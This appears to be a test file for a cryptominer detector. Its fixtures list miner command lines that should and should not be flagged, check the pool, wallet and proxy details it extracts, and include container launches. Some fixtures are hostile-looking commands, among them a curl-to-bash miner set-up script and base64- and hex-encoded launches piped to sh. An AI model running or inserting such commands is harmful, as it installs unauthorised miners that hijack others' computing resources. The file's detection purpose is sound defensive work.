import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { BTC, decide, ETH, KAS, launch, QUBIC, split, strengthOf, XMR } from './fixture.ts';

const strength = (line: string): string => strengthOf('miner_arguments', launch(split(line)));
const artifactsOf = (line: string): readonly string[] =>
  decide('miner_arguments', launch(split(line))).flatMap(({ artifacts }) => artifacts);

const STRONG: readonly string[] = [
  // xmrig, renamed, in each form that getopt_long takes
  `/usr/bin/a -o pool.example.com:3333 -u ${XMR} -p x`,
  `/usr/bin/a -opool.example.com:3333 -u${XMR} -px -kB`,
  `/usr/bin/a --url=pool.example.com:3333 --user=${XMR}.rig --pass=x`,
  `/usr/bin/a --url pool.example.com:3333 --user ${XMR} --tls`,
  '/usr/bin/a --donate-level=1',
  '/usr/bin/a --donate-level 1',
  '/usr/bin/a --donate-l 1',
  '/usr/bin/a --cpu-max 75',
  '/usr/bin/a --randomx-1gb-pages --config=/a',
  '/usr/bin/a --cc-url=cc.example.com:3344 --cc-access-token=t',
  // the start line of a mining container in a stolen account
  `/usr/bin/kq3 -a rx/0 -o 203.0.113.5:1123 -p x -t 16 -u ${XMR}.w7`,
  '/usr/bin/kq3 -a rx/0 -o 203.0.113.5:1123 -p x -t 16 -u 9XyZ4kQpT7vLmN2sRdFgHjKwEbCxAqUoPy.w7',
  // an address of version 6 and a proxy
  `/usr/bin/a -o [2001:db8::5]:443 -u ${XMR} -x 127.0.0.1:9050`,
  // SRBMiner, lolMiner, GMiner, miniZ
  `/opt/s --algorithm-cpu randomvirel --pool eu.example.com:17155 --wallet account.w`,
  `/opt/l -a ETCHASH -p etc.example.com:1010 -u ${ETH}.rig`,
  '/opt/g --algo kawpow --server rvn.example.com --port 4444 --user account.w',
  `/opt/z --url=ssl://${XMR}.w@pool.example.com:443`,
  // ethminer, NBMiner, TeamRedMiner, T-Rex, Rigel, OneZeroMiner
  `/opt/e -P stratum1+ssl://${ETH}.rig:x@eth.example.com:5555/a`,
  '/opt/n -a ethash -o ethproxy+tcp://eth.example.com:4444 -u a.w -o1 stratum+tcp://b.example.com:1 -u1 a',
  '/opt/t -a etchash -o stratum+ssl://tunnel.example.com/real.example.com:443 -u a -p x',
  '/opt/t -a octopus -o stratum2+tcp://cfx.example.com:1 --url2 stratum+tcp://c.example.com:2 -u a',
  `/opt/r -a kheavyhash -o [1]stratum+tcp://kas.example.com:5555 -u ${KAS} -w r1`,
  `/opt/o -a xelishashv3 -o ssl://xel.example.com:1 -w ${XMR}`,
  // PhoenixMiner, Claymore, nanominer
  `/opt/p -epool eu.example.com:5555 -ewal ${ETH} -eworker r -epsw x`,
  `/opt/p -pool eth.example.com:4444 -wal ${ETH}.r -coin etc -algo etchash`,
  `/opt/n -algo randomx -wallet ${XMR} -pool1 xmr.example.com:14444`,
  // kaspa-miner, Qubic, p2pool, monerod, cpuminer
  `/opt/k --mining-address ${KAS} -p 16110`,
  `/opt/q --ClientSettings:QubicAddress=${QUBIC}`,
  `/opt/p2 --host 127.0.0.1 --wallet ${XMR} --merge-mine 127.0.0.1:18081 a`,
  '/opt/m --start-mining a --mining-threads 4',
  `/opt/c -a sha256d -o pool.example.com:3333 -u ${BTC}.1 -p x`,
  // paid coins with something of mining beside them
  `/opt/c -o stratum+tcp://pool.example.com:3333 -u ${BTC}`,
  `/opt/c -o x.listed-pool.example:3333 -u ${BTC}`,
  `/opt/xmrig -o pool.example.com:3333 -u ${BTC}`,
  // services' own words
  '/opt/c -o pool.example.com:3333 -u account -p c=XMR',
  '/opt/c -o pool.example.com:3333 -u XMR:3vT9aK1mZ8cQwErTyUiOpAsDf.w#ab12-cd34',
  '/opt/c -o x.listed-pool.example:443 -u account',
  // a binary that hides
  '/tmp/a --cpu-priority 4',
  '/root/.x/a --cpu-priority=4',
  '/dev/shm/a -o 203.0.113.7:80 -u x -p x',
  // the set-up script that takes the wallet
  `bash /root/setup_moneroocean_miner.sh ${XMR}`,
  `sh -c 'curl -sL https://192.0.2.1/setup_c3pool_miner.sh | bash -s ${XMR}'`,
  // launchers, shells and encodings
  `nohup nice -n 19 /opt/a -o pool.example.com:3333 -u ${XMR}`,
  `systemd-run --unit=a /opt/a -o pool.example.com:3333 -u ${XMR}`,
  `sh -c 'cd /opt; ./a -o pool.example.com:3333 -u ${XMR} >/dev/null 2>&1 &'`,
  `bash -c 'echo ${Buffer.from('/opt/a --donate-level 1').toString('base64')} | base64 -d | sh'`,
  `bash -c 'echo ${Buffer.from('/opt/a --donate-level 1').toString('hex')} | xxd -r -p | sh'`,
];

const SILENT: readonly string[] = [
  'grep -r stratum+tcp:// /etc',
  'rg --donate-level .',
  'pkill -f donate-level',
  `ps -o pid,args -u ${XMR}`,
  'kubectl get pods -o pool.yaml',
  'ssh -o ControlPersist=60s -o Port=22 host.example.com',
  'mysql -u root -p -h db.example.com',
  'curl -o pools.txt -u user:pass https://example.com/pools',
  `curl -d '{"address":"${XMR}"}' https://example.com/pay`,
  'vim /etc/xmrig/config.json',
  'apt-get install xmrig',
  'git clone https://example.com/xmrig/xmrig',
  'yara stratum.yar /tmp/xmrig',
  `echo 'xmrig -o pool.example.com:3333 -u ${XMR}'`,
  'docker logs xmrig',
  'tcpdump -i eth0 -A host pool.listed.example',
  `monero-wallet-rpc --daemon-address node.example.com:18081 --wallet-file a ${XMR}`,
  `bitcoin-cli sendtoaddress ${BTC} 1`,
  `node pay.js --to ${ETH} --url https://rpc.example.com:8545`,
  `/opt/app --url https://api.example.com:8443 --wallet ${ETH}`,
  '/opt/app --url https://api.example.com:8443 --user bob --pass x',
  '/opt/app -o api.example.com:8443 -u bob',
  'python3 train.py --algo sgd --coin BTC --pool 4',
  'hashcat -a 3 -m 0 --force hash.txt',
  'openssl dgst -sha256 file',
  'gunicorn --workers 4 -b 0.0.0.0:8000',
  'celery worker --pool prefork',
  'chronyc -a makestep',
  '/home/u/.cache/chrome/chrome --disable-gpu --type=renderer',
  '/tmp/app -p 127.0.0.1:8080 -w 4',
  'redis-server --tls-port 6380 --daemonize yes',
  'aws s3 cp a b --output json',
];

test('finds the arguments of each miner whatever its program is called', () => {
  for (const line of STRONG) assert.equal(strength(line), 'strong', line);
});

test('says nothing of programs that share these words', () => {
  for (const line of SILENT) assert.equal(strength(line), '-', line);
});

test('is weak where the words prove little', () => {
  for (const line of [
    '/opt/a --cpu-priority 4',
    '/opt/a --no-huge-pages',
    `/opt/pay --to ${XMR}`,
    `/usr/local/bin/train --algo kawpow`,
    '/opt/a --bench=1M --randomx-mode=fast',
    '/opt/a --stress --donate-level=1',
    `ssh host.example.com /opt/a -o pool.example.com:3333 -u ${XMR}`,
    `/opt/a -o 203.0.113.7:80 -u 9XyZ4kQpT7vLmN2sRdFgHjKwEbCxAqUoPy -p x`,
  ]) {
    assert.equal(strength(line), 'weak', line);
  }
});

test('marks common options and names the path of the binary', () => {
  const [verdict] = decide('miner_arguments', launch(split('/opt/a --cpu-priority 4')));
  assert.deepEqual([verdict?.flags, verdict?.artifacts], [['common_option'], ['path:/opt/a']]);
});

test('is weak when the start failed', () => {
  const event = launch(split('/usr/bin/a --donate-level=1'));
  assert.equal(strengthOf('miner_arguments', { ...event, class: 1007, success: false } as typeof event), 'weak');
});

test('gives pool, wallet, coin, algorithm, worker and proxy as artifacts', () => {
  assert.deepEqual(
    artifactsOf(
      `/opt/a -a rx/0 -o Pool.Example.com:3333 -u ${XMR}.w1 -x 203.0.113.9:1080 -c https://example.com/c.json`,
    ),
    [
      'path:/opt/a',
      'pool:pool.example.com:3333',
      'proxy:203.0.113.9:1080',
      `wallet:${XMR}`,
      'coin:XMR',
      'algo:rx/0',
      'worker:w1',
      'url:https://example.com/c.json',
    ],
  );
  assert.ok(artifactsOf(`/opt/a -o [2001:db8::5]:443 -u ${XMR}`).includes('pool:[2001:db8::5]:443'));
  assert.ok(
    artifactsOf(`/opt/a -o socks5:203.0.113.9:1080|http://pool.example.com:1 -u ${XMR}`).includes(
      'proxy:203.0.113.9:1080',
    ),
  );
});

test('says of a container that it is started, with its image', () => {
  for (const line of [
    `docker run -d reg.example/a:1 -o pool.example.com:3333 -u ${XMR}`,
    `docker exec name /opt/a -o pool.example.com:3333 -u ${XMR}`,
    `kubectl run a --image=reg.example/a:1 -- -o pool.example.com:3333 -u ${XMR}`,
  ]) {
    const [verdict] = decide('miner_arguments', launch(split(line)));
    assert.deepEqual([verdict?.strength, verdict?.flags], ['strong', ['launch']], line);
  }
  assert.ok(artifactsOf(`docker run reg.example/a:1 --donate-level 1`).includes('image:reg.example/a:1'));
});

test('reads a configuration given as an argument', () => {
  const config = `{"pools":[{"url":"pool.example.com:3333","user":"${XMR}","nicehash":true}],"donate-level":1}`;
  const [verdict] = decide('miner_arguments', launch(['/opt/a', `--config=${config}`]));
  assert.equal(verdict?.strength, 'strong');
  assert.ok(verdict?.artifacts.includes('pool:pool.example.com:3333'));
});

test('is not moved by the order of options', () => {
  const options = [
    ['-a', 'rx/0'],
    ['-o', 'pool.example.com:3333'],
    ['-u', `${XMR}.w`],
    ['-p', 'x'],
    ['-k'],
    ['-t', '4'],
    ['--tls'],
  ];
  fc.assert(
    fc.property(fc.shuffledSubarray(options, { minLength: options.length }), (shuffled) => {
      const [verdict] = decide('miner_arguments', launch(['/opt/a', ...shuffled.flat()]));
      assert.equal(verdict?.strength, 'strong');
      assert.deepEqual([...(verdict?.artifacts ?? [])].sort(), [
        'algo:rx/0',
        'coin:XMR',
        'path:/opt/a',
        'pool:pool.example.com:3333',
        `wallet:${XMR}`,
        'worker:w',
      ]);
    }),
  );
});

test('is not moved by the name of the binary', () => {
  fc.assert(
    fc.property(fc.stringMatching(/^[a-z0-9]{5,12}$/), (name) => {
      const line = ['-o', 'pool.example.com:3333', '-u', XMR];
      assert.equal(strengthOf('miner_arguments', launch([`/usr/lib/${name}.x`, ...line])), 'strong');
    }),
  );
});
